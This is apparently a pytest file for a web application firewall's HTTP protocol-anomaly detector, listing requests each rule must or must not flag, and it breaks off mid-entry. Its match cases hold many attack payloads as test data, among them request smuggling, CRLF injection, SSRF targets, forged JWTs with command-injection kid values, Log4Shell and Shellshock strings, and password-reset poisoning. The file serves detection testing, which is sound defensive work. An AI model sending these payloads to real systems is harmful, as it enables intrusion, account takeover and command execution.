"""Protocol anomalies: every rule has requests that must match and requests that must not.

Each case is a request as a front-end would build it (`bastion.testing.make_exchange`); the
assertion is on the rule ids the protocol detector reports and on the resulting verdict.
"""

from __future__ import annotations

import base64
import json

import pytest

from bastion.detect import protocol as P
from bastion.testing import make_exchange, make_pipeline, run_exchange, run_request
from bastion.verdict import Action

JSON = {"Content-Type": "application/json"}
FORM = {"Content-Type": "application/x-www-form-urlencoded"}


def R(method="GET", target="/", **kw):
    return {"method": method, "target": target, **kw}


def _b64u(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _jwt(header: dict, sig: bytes | None = b"\x8f" * 32, claims: dict | None = None) -> str:
    """A compact JWS with this header (`sig=None`: an empty signature)."""
    head = _b64u(json.dumps(header, separators=(",", ":")).encode())
    body = _b64u(json.dumps(claims or {"sub": "1", "role": "admin"}, separators=(",", ":")).encode())
    return f"{head}.{body}." + (_b64u(sig) if sig is not None else "")


# (rule, request kwargs) pairs: the rule must be reported.
MUST_MATCH = [
    (P.METHOD_INVALID, R("G(E)T")),
    (P.METHOD_INVALID, R("GET /admin")),
    (P.METHOD_NOT_ALLOWED, R("TRACE")),
    (P.METHOD_NOT_ALLOWED, R("TRACK")),
    (P.METHOD_NOT_ALLOWED, R("CONNECT", "/")),
    (P.METHOD_NOT_ALLOWED, R("get")),
    (P.METHOD_NOT_ALLOWED, R("FOOBAR")),
    (P.VERSION_INVALID, R(http_version="0.9")),
    (P.VERSION_INVALID, R(http_version="")),
    (P.VERSION_INVALID, R(http_version="1.2")),
    (P.TARGET_INVALID, R(target="admin")),
    (P.TARGET_INVALID, R(target="*")),
    (P.TARGET_INVALID, R(target="file:///etc/passwd")),
    (P.TARGET_INVALID, R(target="gopher://127.0.0.1:6379/_")),
    (P.TARGET_AUTHORITY, R(target="http://169.254.169.254/latest/meta-data/")),
    (P.TARGET_AUTHORITY, R(target="http://testserver@evil.example/")),
    (P.TARGET_FRAGMENT, R(target="/a#frag")),
    (P.HOST_MISSING, R(host=None)),
    (P.HOST_MISSING_10, R(host=None, http_version="1.0")),
    (P.HOST_MULTIPLE, R(headers=[("Host", "a.example"), ("Host", "evil.example")])),
    (P.HOST_INVALID, R(headers={"Host": "evil.example/x"})),
    (P.HOST_INVALID, R(headers={"Host": "user@evil.example"})),
    (P.HOST_INVALID, R(headers={"Host": "a.example:99999"})),
    (P.HOST_INVALID, R(headers={"Host": "a.example:80x"})),
    (P.HOST_INVALID, R(headers={"Host": "a.example evil"})),
    (P.HOST_EMPTY, R(headers={"Host": ""})),
    (P.CL_INVALID, R("POST", headers={"Content-Length": "+5"})),
    (P.CL_INVALID, R("POST", headers={"Content-Length": "0x10"})),
    (P.CL_INVALID, R("POST", headers={"Content-Length": "5 5"})),
    (P.CL_MULTIPLE, R("POST", headers=[("Content-Length", "5"), ("Content-Length", "6")])),
    (P.CL_MULTIPLE, R("POST", headers={"Content-Length": "5, 5"})),
    (P.CL_TE, R("POST", headers={"Content-Length": "4", "Transfer-Encoding": "chunked"})),
    (P.TE_INVALID, R("POST", headers={"Transfer-Encoding": "chunked, identity"})),
    (P.TE_INVALID, R("POST", headers={"Transfer-Encoding": "xchunked"})),
    (P.TE_INVALID, R("POST", headers={"Transfer-Encoding": "gzip"})),
    (P.TE_INVALID, R("POST", headers=[("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "chunked")])),
    (P.TE_VERSION, R("POST", http_version="1.0", headers={"Transfer-Encoding": "chunked"})),
    (P.HEADER_NAME_INVALID, R(headers={"Bad Name": "x"})),
    (P.HEADER_NAME_INVALID, R(headers={"X-A:": "x"})),
    (P.HEADER_CRLF, R(headers={"X-Note": "a\r\nSet-Cookie: x=1"})),
    (P.HEADER_CRLF, R(headers={"Referer": "http://a/\nx"})),
    (P.HEADER_CRLF, R(headers={"User-Agent": "abc\x00def"})),
    (P.HEADER_CTL, R(headers={"User-Agent": "abc\x07def"})),
    (P.HEADER_ALIAS, R(headers={"X_Forwarded_For": "127.0.0.1"})),
    (P.HEADER_ALIAS, R("POST", headers={"Content_Length": "10"})),
    (P.UPGRADE_H2C, R(headers={"Upgrade": "h2c", "Connection": "Upgrade, HTTP2-Settings"})),
    (P.EXPECT_INVALID, R("POST", headers={"Expect": "200-ok"})),
    (P.CONNECTION_STRIP, R(headers={"Connection": "close, X-Forwarded-For"})),
    (P.CONNECTION_STRIP, R(headers={"Connection": "keep-alive, Authorization"})),
    (P.RANGE_ABUSE, R(headers={"Range": "bytes=" + ",".join(f"{i}-{i + 5}" for i in range(50))})),
    (P.RANGE_ABUSE, R(headers={"Request-Range": "bytes=" + ",".join(["0-"] * 20)})),
    (P.PATH_CRLF, R(target="/redirect/%0d%0aSet-Cookie:%20a=b")),
    (P.PATH_CRLF, R(target="/a%250aLocation:%20http://evil")),
    (P.PATH_NUL, R(target="/files/secret.txt%00.png")),
    (P.PATH_NUL, R(target="/files/a%2500.png")),
    (P.ARG_HEADER_INJECTION, R(target="/r?next=%0d%0aSet-Cookie:%20sid=1")),
    (P.ARG_HEADER_INJECTION, R(target="/r?next=x%250d%250aLocation:%2520http://evil")),
    (P.ARG_HEADER_INJECTION, R(target="/r?x=%0D%0A%0D%0AHTTP/1.1%20200%20OK")),
    (P.ARG_HEADER_INJECTION, R(target="/r?a=%0d%0aRemote-Addr:%20127.0.0.1")),
    (P.ARG_HEADER_INJECTION, R("POST", headers=FORM, body=b"next=%0D%0ASet-Cookie%3A+admin%3D1")),
    (P.ARG_HEADER_INJECTION, R("POST", headers=JSON, body=b'{"name": "x", "comment": "x\\r\\nX-Injected: 1"}')),
    (P.ARG_HEADER_INJECTION, R("POST", headers=JSON, body=b'{"next": "/home%0d%0aSet-Cookie:%20sid=evil"}')),
    (P.ARG_HEADER_INJECTION, R("POST", headers=JSON, body=b'[{"u": "a\\u000d\\u000aLocation: http://evil/"}]')),
    (P.ARG_NUL, R("POST", headers=JSON, body=b'{"file": "report.pdf\\u0000.html"}')),
    (P.ARG_CRLF_NAME, R(target="/get?parameter%0d%0a=test")),
    (P.ARG_NUL, R(target="/?file=report.pdf%00.html")),
    (P.ARG_NUL, R(target="/?name%00=x")),
    (P.ARG_NUL, R("POST", headers=FORM, body=b"path=..%2fetc%2fpasswd%2500")),
    (P.ARG_CTL, R(target="/?test=a%03b")),
    (P.ARG_REQUEST_LINE, R(target="/?arg=GET%20http%3A%2F%2Fevil.example%20HTTP%2F1.1")),
    (P.ARG_REQUEST_LINE, R("POST", headers=FORM, body=b"x=POST+%2Fadmin+HTTP%2F1.0")),
    (P.HEADER_ENCODED_INJECTION, R(headers={"Referer": "http://a/%0d%0aSet-Cookie:%20sid=evil"})),
    (P.HEADER_ENCODED_INJECTION, R(headers={"X-Next": "x%250d%250aLocation:%20http://evil"})),
    (P.HTTPOXY, R(headers={"Proxy": "http://attacker.example:8080"})),
    (P.DAV_HEADER_UNEXPECTED, R(headers={"Lock-Token": "<opaquelocktoken:x>"})),
    (P.DAV_HEADER_UNEXPECTED, R(headers={"If": "(<urn:uuid:1>)"})),
    (P.METHOD_OVERRIDE, R("POST", headers={"X-HTTP-Method-Override": "TRACE"})),
    (P.METHOD_OVERRIDE, R("POST", headers={"X-Method-Override": "CONNECT"})),
    (P.CONNECTION_CONFLICT, R(headers={"Connection": "keep-alive, close"})),
    (P.CONNECTION_REPEATED, R(headers={"Connection": "close,close"})),
    (P.CONNECTION_REPEATED, R(headers=[("Connection", "keep-alive"), ("Connection", "keep-alive")])),
    (P.CT_CHARSET_UNKNOWN, R("POST", headers={"Content-Type": "application/x-www-form-urlencoded; charset=garbage"},
                             body=b"a=1")),
    (P.CT_CHARSET_UNKNOWN, R("POST", headers={"Content-Type": 'text/plain; charset="utf-88"'}, body=b"a")),
    (P.CT_CONFUSION, R("POST", headers={"Content-Type": 'application/x-www-form-urlencoded;boundary="text/xml"'},
                       body=b"a=1")),
    (P.CT_CONFUSION, R("POST", headers={"Content-Type": "application/json; x=application/xml"}, body=b"{}")),
    (P.GET_BODY, R("GET", headers=JSON, body=b'{"q": 1}')),
    (P.GET_CHUNKED, R("GET", headers={"Transfer-Encoding": "chunked"})),
    (P.GET_FORM, R("GET", headers=FORM, body=b"a=1&b=2")),
    (P.GET_FORM, R("HEAD", headers={"Content-Type": "multipart/form-data; boundary=x"}, body=b"--x\r\n")),
    (P.BODY_NO_CT, R("POST", body=b"a=1")),
    (P.CT_MULTIPLE, R("POST", headers=[("Content-Type", "application/json"), ("Content-Type", "text/plain")],
                      body=b"{}")),
    (P.CT_TYPE_INVALID, R("POST", headers={"Content-Type": "json"}, body=b"{}")),
    (P.CT_TYPE_INVALID, R("POST", headers={"Content-Type": "multipart/; boundary=x"}, body=b"--x\r\n")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": 'application/x-www-form-urlencoded; boundary="charset=utf-7"'},
                     body=b"a=1")),
    (P.REQUEST_RANGE, R(headers={"Request-Range": "bytes=0-99"})),
    (P.CONTENT_RANGE, R(headers={"Content-Range": "bytes 0-99/200"})),
    (P.CONTENT_RANGE, R("PUT", headers={"Content-Range": "test"}, body=b"x")),
    (P.ACCEPT_ENCODING_LONG, R(headers={"Accept-Encoding": "A" * 60 + "," + "A" * 60 + "&**"})),
    (P.ACCEPT_CHARSET, R(headers={"Accept": "text/html;q=0.9;charset=CP1026,*/*;q=0.8"})),
    (P.ACCEPT_CHARSET, R(headers={"Accept": 'application/json; charset="utf-7"'})),
    (P.ACCEPT_CHARSET, R(headers={"Accept": "text/html;charset=utf-16,*/*;q=0.8"})),
    (P.HEADER_ENCODED_NUL, R(headers={"Referer": "https://a.example/x%00.html"})),
    (P.HEADER_ENCODED_INJECTION, R(headers={"Cookie": "s=x%0d%0a%0d%0a<html>"})),
    (P.HEADER_ENCODED_INJECTION, R(headers={"X-Data": "ok%0dInjected-Header: 1"})),
    (P.COOKIE_V1, R(headers={"Cookie": '$Version=1; session="abc"; $Path="/"'})),
    (P.MIDDLEWARE_SUBREQUEST, R(headers={"x-middleware-subrequest": "middleware:middleware:middleware"})),
    (P.URL_OVERLONG, R(target="/files/..%c0%af..%c0%afetc/passwd")),
    (P.URL_OVERLONG, R(target="/?p=%e0%80%ae")),
    (P.URL_OVERLONG, R(target="/?p=%F5%80%BF%BF")),
    (P.URL_OVERLONG, R("POST", headers=FORM, body=b"p=%ed%a0%80")),
    (P.URL_U_ENCODING, R(target="/?q=%uff1cscript%uff1e")),
    (P.URL_U_ENCODING, R(target="/%u002e%u002e/%u002e%u002e/etc/passwd")),
    (P.ARG_UNICODE_ESCAPE, R(target="/?a=%5Cu0061lert(1)")),
    (P.ARG_UNICODE_ESCAPE, R("POST", headers=FORM, body=b"x=%5Cu0065val%28%29")),
    (P.PATH_SENSITIVE_FILE, R(target="/index.php~")),
    (P.PATH_SENSITIVE_FILE, R(target="/backup/db.sql")),
    (P.PATH_SENSITIVE_FILE, R(target="/dump%2Erdb")),
    (P.PATH_SENSITIVE_FILE, R(target="/etc/letsencrypt/live/a.example/privkey.pem")),
    (P.PATH_SENSITIVE_FILE, R(target="/config.php.bak/x")),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="a;b"\r\n\r\n1\r\n--b--\r\n')),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="x=.txt"\r\n\r\n1\r\n'
                               b"--b--\r\n")),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="f"; filename="a.p\\h\\p"\r\n\r\n1\r\n'
                               b"--b--\r\n")),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="a"; name="b"\r\n\r\n1\r\n--b--\r\n')),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="f"; '
                               b'filename=""><img src=x onerror=alert(1)>.png"\r\n\r\n1\r\n--b--\r\n')),
    (P.MULTIPART_CHARSET, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                            body=b'--b\r\nContent-Disposition: form-data; name="a"\r\n'
                                 b"Content-Type: text/plain; charset=utf-16\r\n\r\n1\r\n--b--\r\n")),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="safe"\r\n'
                               b'Content-Disposition: form-data; name="cmd"\r\n\r\nid\r\n--b--\r\n')),
    (P.MULTIPART_BOUNDARY, R("POST", headers={"Content-Type": "multipart/form-data; boundary=a; boundary=b"},
                             body=b"--a\r\n")),
    (P.MULTIPART_CHARSET, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                            body=b'--b\r\nContent-Disposition: form-data; name="_charset_"\r\n\r\nutf-7\r\n--b--\r\n')),
    (P.MULTIPART_CTE, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                        body=b'--b\r\nContent-Disposition: form-data; name="a"\r\n'
                             b"Content-Transfer-Encoding: base64\r\n\r\nJzsgLS0=\r\n--b--\r\n")),
    (P.CT_INVALID, R("POST", headers={"Content-Type": "application/json; charset"}, body=b"{}")),
    (P.CT_INVALID, R("POST", headers={"Content-Type": "application/x-www-form-urlencoded;,multipart/form-data"},
                     body=b"a=1")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "application/x-www-form-urlencoded; charset=ibm037"},
                     body=b"\x81\x7e\xf1")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "text/plain; charset=utf-7"}, body=b"+ADw-script")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "text/plain; charset=cp875"}, body=b"x")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "text/plain; charset=IBM-1026"}, body=b"x")),
    (P.CT_CHARSET_UNUSUAL, R("POST", headers={"Content-Type": "text/plain; charset=koi8-r"}, body=b"x")),
    (P.CT_CHARSET, R("POST", headers={"Content-Type": "application/json; charset=utf-8; charset=ibm500"},
                     body=b"{}")),
    (P.MULTIPART_BOUNDARY, R("POST", headers={"Content-Type": "multipart/form-data"}, body=b"--x\r\n")),
    (P.MULTIPART_BOUNDARY, R("POST", headers={"Content-Type": "multipart/form-data; boundary="}, body=b"x")),
    (P.BODY_UNINSPECTED, R("POST", headers=JSON, body=b'{"a": "' + b"x" * 3000 + b'"}', inspect_bytes=1024)),
    (P.BODY_JSON, R("POST", headers=JSON, body=b"a=1&b=' or 1=1--")),
    (P.BODY_JSON, R("POST", headers=JSON, body=b"<?xml version='1.0'?><a/>")),
    (P.BODY_JSON, R("POST", headers=JSON, body=b'{"a": 1')),
    (P.BODY_JSON, R("POST", headers={"Content-Type": "application/vnd.api+json"}, body=b"{'a': 1}")),
    (P.BODY_XML, R("POST", headers={"Content-Type": "application/xml"}, body=b'{"a": 1}')),
    (P.BODY_FORM, R("POST", headers=FORM, body=b'{"user": "a"}')),
    (P.BODY_MULTIPART, R("POST", headers={"Content-Type": "multipart/form-data; boundary=abc"},
                         body=b"--zzz\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--zzz--")),
    (P.BODY_SMUGGLED, R("POST", headers=FORM, body=b"x=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n")),
    (P.BODY_SMUGGLED, R("POST", headers={"Content-Type": "text/plain"},
                        body=b"0\r\n\r\nPOST /internal/delete HTTP/1.1\r\nContent-Length: 5\r\n\r\nx=1")),
    (P.BODY_SMUGGLED, R("POST", headers={"Content-Type": "text/plain"},
                        body=b"barGET /a.html HTTP/1.1\r\nX-Ignore: GET /b HTTP/1.1\r\nHost: x\r\n\r\n")),
    # {"alg":"none"} / {"typ":"JWT","alg":"NONE"}, with or without an empty signature
    (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."})),
    (P.JWT_UNSIGNED, R(headers={"Authorization": "bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJOT05FIn0.eyJzdWIiOiIxIn0.x"})),
    # a JWT anywhere: a cookie, a JSON field, a query parameter; `{ "alg"` with a blank
    (P.JWT_UNSIGNED, R(headers={"Cookie": "lang=en; session=" + _jwt({"alg": "nOnE"}, None)})),
    (P.JWT_UNSIGNED, R("POST", "/auth/refresh", headers=JSON,
                       body=b'{"refresh_token": "' + _jwt({"alg": "none"}, None).encode() + b'"}')),
    (P.JWT_UNSIGNED, R(target="/download?token=" + _jwt({"alg": "None", "typ": "JWT"}, b"x"))),
    (P.JWT_UNSIGNED, R(headers={"X-Auth-Token": _b64u(b'{ "alg": "none" }') + ".eyJzdWIiOiIxIn0."})),
    (P.JWT_NO_SIGNATURE, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256"}, None)})),
    (P.JWT_NO_SIGNATURE, R(headers={"Authorization": "Bearer " + _jwt({"alg": "ES256"}, bytes(64))})),
    (P.JWT_NO_SIGNATURE, R(headers={"Authorization": "Bearer " + _jwt({"alg": "ES256"},
                                                                    b"0\x06\x02\x01\x00\x02\x01\x00")})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "../../../../dev/null"})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "x' UNION SELECT 'k'-- "})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "k1|curl http://x.example"})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "/proc/sys/kernel/hostname"})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": "$(id)"})})),
    (P.JWT_KID, R(headers={"Authorization": "Bearer " + _jwt({"alg": "HS256", "kid": {"$ne": None}})})),
    (P.JWT_UNSIGNED, R(target="/verify?t=" + _jwt({"alg": "none"}, None).replace(".", "%2E"))),
    (P.JWT_UNSIGNED, R(headers={"Authorization": "Bearer " + _b64u(b'{"alg":"none"}') + "==.eyJzdWIiOiIxIn0."})),
    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt({"alg": "RS256", "jku": "https://oast.example/j.json"})})),
    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "x5u": "https://evil.example/c.pem"}, claims={"iss": "https://auth.acme.example/"})})),
    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "jku": "http://auth.acme.example/jwks"}, claims={"iss": "https://auth.acme.example/"})})),
    (P.JWT_KEY_URL, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "jku": "https://169.254.169.254/jwks"}, claims={"iss": "https://auth.acme.example/"})})),
    (P.JWT_EMBEDDED_KEY, R(headers={"Authorization": "Bearer " + _jwt(
        {"alg": "RS256", "jwk": {"kty": "RSA", "n": "AQAB", "e": "AQAB"}})})),
    (P.PATH_OVERRIDE, R(target="/", headers={"X-Original-URL": "/admin/users/delete?id=1"})),
    (P.PATH_OVERRIDE, R(target="/anything", headers={"X-Rewrite-URL": "/admin/config"})),
    (P.LOOPBACK_CLAIM, R(target="/api/v1/orders", headers={"X-Forwarded-For": "127.0.0.1"})),
    (P.LOOPBACK_CLAIM, R(target="/api/v1/orders", headers={"X-Real-IP": "::1"})),
    (P.LOOPBACK_ADMIN, R("PUT", "/api/v2/cmdb/system/admin/admin", headers={
        "Forwarded": 'for="[127.0.0.1]:8000";by="[127.0.0.1]:9000";', "User-Agent": "Report Runner"})),
    (P.LOOPBACK_ADMIN, R(target="/admin/", headers={"Host": "localhost", "X-Forwarded-Host": "127.0.0.1"})),
    (P.LOOPBACK_ADMIN, R(target="/actuator/env", headers={"X-Custom-IP-Authorization": "localhost"})),
    (P.LOOPBACK_ADMIN, R(target="/manager/html", headers={"True-Client-IP": "2130706433"})),
    (P.HOST_LOOPBACK_ADMIN, R(target="/admin/", headers={"Host": "localhost"})),
    (P.FORWARDED_HOST, R(target="/api/v1/products",
                         headers={"Host": "shop.example", "X-Forwarded-Host": "evil.example"})),
    (P.FORWARDED_HOST_LINK, R("POST", "/api/v1/password/forgot", headers={
        **JSON, "Host": "shop.example", "X-Forwarded-Host": "evil.example"}, body=b'{"email": "v@shop.example"}')),
    (P.FORWARDED_HOST_LINK, R("POST", "/users/invitations", headers={
        **JSON, "Host": "shop.example", "Forwarded": "for=203.0.113.9;host=evil.example"}, body=b"{}")),
    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/admin/users/17", headers={"X-HTTP-Method-Override": "DELETE"})),
    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/users/17", headers={"X-Original-Method": "PUT"})),
    (P.METHOD_OVERRIDE_SAFE, R(target="/api/v1/users/17?_method=DELETE")),
    (P.IDENTITY_ARRAY, R("POST", "/users/password", headers=FORM,
                         body=b"authenticity_token=x&user%5Bemail%5D%5B%5D=victim%40shop.example"
                              b"&user%5Bemail%5D%5B%5D=attacker%40evil.example")),
    (P.IDENTITY_ARRAY, R("POST", "/api/v1/password/reset", headers=JSON,
                         body=b'{"user": {"email": ["victim@shop.example", "attacker@evil.example"]}}')),
    (P.IDENTITY_ARRAY, R(target="/api/v1/forgot?email=victim%40shop.example&email=attacker%40evil.example")),
    (P.IDENTITY_ARRAY_OTHER, R("POST", "/api/v1/newsletter", headers=JSON,
                               body=b'{"email": ["a@shop.example", "b@evil.example"]}')),
    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "${jndi:ldap://x.example/a}"})),
    (P.NEGOTIATION_INVALID, R(headers={"Accept-Language": "en'||sleep(5)||'"})),
    (P.NEGOTIATION_INVALID, R(headers={"Accept-Encoding": "gzip;$(id)"})),
    (P.NEGOTIATION_INVALID, R(headers={"Accept": "${${lower:j}ndi:ldap://x.example/a}"})),
    (P.NEGOTIATION_INVALID, R(headers={"Cache-Control": "() { :; }; echo; id"})),
    (P.NEGOTIATION_INVALID, R(headers={"Connection": "keep-alive, ${jndi:ldap://x.example/c}"})),
    (P.PERCENT_INVALID, R(target="/api/v1/products?id=%1%20%A%N%D%20%S%L%E%E%P%(%5%)")),
    (P.PERCENT_INVALID, R(target="/api/v1/products?id=1%20%S%E%L%E%C%T%201")),
    (P.PERCENT_INVALID, R("POST", "/login", headers=FORM, body=b"user=%a%d%m%i%n&pass=x")),
    (P.PATH_ALIAS, R(target="/static../app/settings.py")),
    (P.PATH_ALIAS, R(target="/assets..%2f.env")),
    (P.SCANNER_HEADER, R(headers={"Acunetix-Aspect": "enabled", "Acunetix-Aspect-Queries": "filelist;aspectalerts"})),
    (P.SCANNER_HEADER, R(headers={"X-Scan-Memo": "Category=\"Audit\""})),
    (P.REDIRECT_ENCODED, R(target="/logout?continue=https:%2F%2Fevil.example%2Fphish")),
    (P.REDIRECT_ENCODED, R(target="/login?next=https:%5C%5Cevil.example")),
]

# Requests that the rule must NOT report (benign, if sometimes odd, clients).
MUST_NOT_MATCH = [
    (P.METHOD_NOT_ALLOWED, R("PATCH")),
    (P.METHOD_NOT_ALLOWED, R("OPTIONS", "*")),
    (P.METHOD_NOT_ALLOWED, R("DELETE", "/users/7")),
    (P.VERSION_INVALID, R(http_version="1.0")),
    (P.VERSION_INVALID, R(http_version="2")),
    (P.TARGET_INVALID, R("OPTIONS", "*")),
    (P.TARGET_AUTHORITY, R(target="http://testserver/a")),
    (P.TARGET_AUTHORITY, R(target="https://testserver/a?b=1")),
    (P.TARGET_INVALID, R(target="//double/slash")),
    (P.HOST_MISSING, R(host=None, http_version="2")),
    (P.HOST_INVALID, R(headers={"Host": "api.example.com:8443"})),
    (P.HOST_INVALID, R(headers={"Host": "[::1]:8080"})),
    (P.HOST_INVALID, R(headers={"Host": "127.0.0.1"})),
    (P.HOST_INVALID, R(headers={"Host": "my_service.internal"})),
    (P.HOST_INVALID, R(headers={"Host": "api.example.com:"})),
    (P.CL_INVALID, R("POST", headers=JSON, body=b"{}")),
    (P.CL_TE, R("POST", headers={**JSON, "Transfer-Encoding": "chunked"}, body=b"{}")),
    (P.TE_INVALID, R("POST", headers={"Transfer-Encoding": " Chunked "})),
    (P.HEADER_CTL, R(headers={"User-Agent": "Mozilla/5.0\t(X11)"})),
    (P.HEADER_CRLF, R(headers={"X-Name": "Zoë O'Brien"})),
    (P.HEADER_ALIAS, R(headers={"X_Custom_Trace": "1", "api_key": "k"})),
    (P.CONNECTION_STRIP, R(headers={"Connection": "keep-alive, Upgrade", "Upgrade": "websocket"})),
    (P.UPGRADE_H2C, R(headers={"Connection": "Upgrade", "Upgrade": "websocket"})),
    (P.EXPECT_INVALID, R("POST", headers={**JSON, "Expect": "100-Continue"}, body=b"{}")),
    (P.RANGE_ABUSE, R(headers={"Range": "bytes=0-99,200-299"})),
    (P.PATH_CRLF, R(target="/search/caf%C3%A9%20cr%C3%A8me")),
    (P.PATH_NUL, R(target="/files/100%25.txt")),
    (P.ARG_HEADER_INJECTION, R(target="/notes?text=line1%0D%0Aline2%20with%20a%20location%20in%20it")),
    (P.ARG_HEADER_INJECTION, R(target="/notes?text=Dear%20Bob%2C%0A%0ARegards%3A%20Alice")),
    (P.ARG_NUL, R(target="/?discount=100%25&note=50%25%20off")),
    (P.ARG_CTL, R(target="/?text=tab%09separated%0D%0Alines")),
    (P.ARG_CTL, R("POST", headers=FORM, body=b"comment=line+one%0D%0Aline+two%09tabbed")),
    (P.ARG_REQUEST_LINE, R(target="/docs?q=http%2F2+vs+http%2F1.1")),
    (P.ARG_REQUEST_LINE, R(target="/docs?q=GET+requests+in+HTTP")),
    (P.ARG_CRLF_NAME, R(target="/?a=x%0Ay")),
    (P.ARG_HEADER_INJECTION, R("POST", headers=JSON,
                               body=b'{"notes": "Meeting\\nLocation: Berlin office\\nHost: Anna\\nCookie: none"}')),
    (P.ARG_HEADER_INJECTION, R("POST", headers=FORM, body=b"msg=Hi%0D%0ALocation%3A+room+4%0D%0ALink%3A+see+wiki")),
    (P.ARG_HEADER_INJECTION, R("POST", headers=JSON, body=b'{"md": "# Title\\n\\n* one\\n* two", "p": "50% off"}')),
    (P.HEADER_ENCODED_INJECTION, R(headers={"Cookie": "prefs=a%0Ab%3Dc"})),
    (P.HTTPOXY, R(headers={"Proxy-Authorization": "Basic eDp5"})),
    (P.METHOD_OVERRIDE, R("POST", headers={"X-HTTP-Method-Override": "PATCH"})),
    (P.CONNECTION_CONFLICT, R(headers={"Connection": "keep-alive"})),
    (P.CONNECTION_CONFLICT, R(headers={"Connection": "close,close"})),
    (P.REQUEST_RANGE, R(headers={"Range": "bytes=0-99"})),
    (P.CONTENT_RANGE, R("PUT", headers={"Content-Range": "bytes 0-524287/2000000"}, body=b"x")),
    (P.CONTENT_RANGE, R("PUT", headers={"Content-Range": "bytes */2000000"})),
    (P.ACCEPT_ENCODING_LONG, R(headers={"Accept-Encoding": "gzip, deflate, br, zstd"})),
    (P.ACCEPT_CHARSET, R(headers={"Accept": "application/json; charset=utf-8, text/plain;q=0.5"})),
    (P.ACCEPT_CHARSET, R(headers={"Accept": "text/html;charset=ISO-8859-1"})),
    (P.MULTIPART_BOUNDARY, R("POST", headers={"Content-Type": 'multipart/form-data; boundary="  spaced out"'},
                             body=b"--  spaced out\r\n")),
    (P.HEADER_ENCODED_NUL, R(headers={"Referer": "https://a.example/?discount=100%25"})),
    (P.HEADER_ENCODED_INJECTION, R(headers={"Cookie": "note=line%0Aline2; a=b"})),
    (P.COOKIE_V1, R(headers={"Cookie": "version=1; session=abc"})),
    (P.COOKIE_V1, R(headers={"Cookie": "tpl=$version; session=abc"})),
    (P.CT_TYPE_INVALID, R("GET", headers={"Content-Type": ""})),
    (P.URL_OVERLONG, R(target="/search?q=caf%C3%A9%20%E2%82%AC%20%F0%9F%8E%89")),
    (P.URL_OVERLONG, R(target="/search?q=K%F6ln%20M%FCnchen")),
    (P.URL_U_ENCODING, R(target="/search?q=%u4e2d%u6587")),
    (P.ARG_UNICODE_ESCAPE, R(target="/search?q=%5Cu4e2d%5Cu6587")),
    (P.ARG_UNICODE_ESCAPE, R("POST", headers=JSON, body=b'{"a": "\\u0061lert"}')),
    (P.PATH_SENSITIVE_FILE, R(target="/~alice/profile")),
    (P.PATH_SENSITIVE_FILE, R(target="/api/v1/dbs/main.dbo/tables")),
    (P.PATH_SENSITIVE_FILE, R(target="/api/keys/7/rotate")),
    (P.PATH_SENSITIVE_FILE, R(target="/static/app.bundle.js?v=old")),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="avatar"; '
                               b'filename="O\'Brien photo (1).png"; '
                               b"filename*=UTF-8''O%E2%80%99Brien.png\r\n\r\n1\r\n--b--\r\n")),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="doc"; filename="C:\\fakepath\\cv.pdf"'
                               b'\r\n\r\n1\r\n--b--\r\n')),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
                          body=b'--b\r\nContent-Disposition: form-data; name="doc" ; filename="report (1).pdf" '
                               b'\r\n\r\n1\r\n--b--\r\n')),
    (P.MULTIPART_PARAM, R("POST", headers={"Content-Type": "multipart/form-data; boundary=b"},
